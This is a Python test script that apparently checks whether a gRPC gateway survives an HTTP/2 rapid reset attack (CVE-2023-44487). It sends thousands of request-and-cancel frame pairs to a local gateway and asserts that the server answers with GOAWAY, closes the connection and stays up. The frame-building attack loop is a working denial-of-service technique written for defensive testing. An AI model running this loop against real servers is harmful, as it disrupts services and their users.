#!/usr/bin/python3
"""Abuse: HTTP/2 rapid reset (CVE-2023-44487). A raw client sends, on one
connection, complete GetVendorProds requests (HEADERS + DATA END_STREAM)
each followed at once by RST_STREAM CANCEL, thousands of times, without
waiting. The server's reset rate limit (nghttp2: a burst of 1000, then 33 a
second) answers with GOAWAY and closes the connection; the attacker
reconnects and is cut again. The gateway and storage stay up, and a client
connected beforehand gets its answers within 50 ms at p99."""
import os
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from harness import T  # noqa: E402
import overload as ov  # noqa: E402

ATTEMPTS = 5000  # resets one connection tries before giving up
ROUNDS = 3
BATCH = 50

t = T()
t.require_bins()
st = t.start_storage()
gw = t.start_gateway(st.port)
probe = ov.Probe("127.0.0.1:%d" % gw.port)
block = ov.request_block("/api.ProdService/GetVendorProds")
msg = ov.grpc_msg(ov.api_pb2.ClientRequestProds(vendor="aws", productType="storage").SerializeToString())


def attack(port):
    """One attacking connection. Returns (resets sent, goaway or None, closed, seconds)."""
    h = ov.H2(port, rcvbuf=1 << 20)
    h.read(0.1)
    t0 = time.monotonic()
    sid, sent = 1, 0
    while sent < ATTEMPTS and not h.closed and h.goaway is None:
        out = bytearray()
        for _ in range(BATCH):
            out += ov.frame(ov.HEADERS, ov.END_HEADERS, sid, block)
            out += ov.frame(ov.DATA, ov.END_STREAM, sid, msg)
            out += ov.frame(ov.RST_STREAM, 0, sid, b"\x00\x00\x00\x08")  # CANCEL
            sid += 2
        if not h.send(bytes(out)):
            break
        sent += BATCH
        h.read(0.001)
    h.read(2, until=lambda x: x.closed)
    took = time.monotonic() - t0
    h.close()
    return sent, h.goaway, h.closed, took


probe.start(200, 0.01)
for r in range(ROUNDS):
    sent, goaway, closed, took = attack(gw.port)
    print("# rapid reset round %d: %d request+reset pairs sent in %.2f s; GOAWAY %s; connection closed: %s"
          % (r, sent, took, "none" if goaway is None else "%s (last stream %d)" % (ov.goaway_name(goaway[1]), goaway[0]),
             closed))
    t.check(goaway is not None and goaway[1] != 0,
            "rapid reset round %d: the gateway answers with GOAWAY and an error code" % r, "goaway %s" % (goaway,))
    t.check(closed, "rapid reset round %d: the gateway closes the connection" % r)
    t.check(sent < ATTEMPTS, "rapid reset round %d: cut before %d resets (after %d)" % (r, ATTEMPTS, sent))
probe.join()
probe.report(t, "during the rapid reset attack")
t.check(gw.alive() and st.alive(), "gateway and storage are alive after the attack")
rc, out, err, ms = t.client("getprods", "aws", "storage", port=gw.port)
t.check(rc == 0 and len(out.splitlines()) == 7, "a full GetVendorProds after the attack (%d ms)" % ms, err)
cancelled = gw.text().count("the user has canceled the request")
print("# the gateway logged %d cancelled calls, storage %d dropped ones"
      % (cancelled, st.text().count("the call was dropped")))
probe.close()
t.finish()
